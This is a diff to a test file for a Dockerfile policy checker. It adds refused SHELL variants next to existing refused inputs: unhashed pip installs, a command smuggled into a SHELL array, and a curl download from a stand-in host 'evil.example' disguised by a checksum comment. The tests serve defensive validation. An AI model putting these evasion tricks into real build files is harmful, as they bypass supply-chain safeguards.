@@ -134,6 +134,16 @@ REFUSED = [
     (f"FROM {BASE}\nRUN pip install flask # --require-hashes", 2, "pip install"),
     (f"FROM {BASE}\nRUN echo ' # ' && pip install flask", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -mpip install flask", 2, "pip install"),
+    *(
+        (f"FROM {BASE}\nSHELL {shell}", 2, "SHELL takes sh, ash, bash or dash")
+        for shell in (
+            '["sh"]',
+            '["bash", "-rcfile", "-c"]',
+            '["bash", "-norc"]',
+            '["dash", "-s"]',
+            '["sh", "pipefail", "-c"]',
+        )
+    ),
     (f'FROM {BASE}\nSHELL ["/bin/sh", "-c", "pip install flask"]', 2, "SHELL takes sh, ash, bash or dash"),
     (f"FROM {BASE}\nRUN curl -O https://evil.example # sha256sum --check", 2, "curl or wget"),
     (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
